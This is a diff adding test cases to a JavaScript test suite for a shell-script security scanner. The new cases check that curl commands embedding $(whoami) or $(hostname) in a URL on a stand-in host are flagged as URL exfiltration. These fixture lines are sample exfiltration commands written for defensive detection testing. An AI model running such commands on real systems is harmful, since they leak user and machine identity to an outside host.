@@ -204,6 +204,13 @@ describe('downloads, prompts and commands assembled in code', () => {
       '#!/bin/sh\nHERE="$(cd "$(dirname "$0")/.." && pwd)"\nurl="$(grep url= "$HERE/assets/lock" | cut -d= -f2)"\n' +
       'curl --proto \'=https\' -o "$HERE/out.tgz" "$url"\n';
     expect(codes({ 'scripts/i.sh': sh })).toEqual([]);
+    // A group of short options takes a value when its last letter does (`-fsSLo file`); `-O` takes none.
+    expect(
+      codes({ 'scripts/i.sh': '#!/bin/sh\ncurl -fsSLo out.tgz "https://$(whoami).x.example.invalid/"\n' }),
+    ).toContain('security.url-exfil:error:2');
+    expect(codes({ 'scripts/i.sh': '#!/bin/sh\ncurl -O "https://$(whoami).x.example.invalid/f"\n' })).toContain(
+      'security.url-exfil:error:2',
+    );
     // The machine's own details in the URL still leave with it.
     expect(
       codes({ 'scripts/i.sh': '#!/bin/sh\nh=$(hostname)\ncurl -o out.txt "https://$h.x.example.invalid/"\n' }),
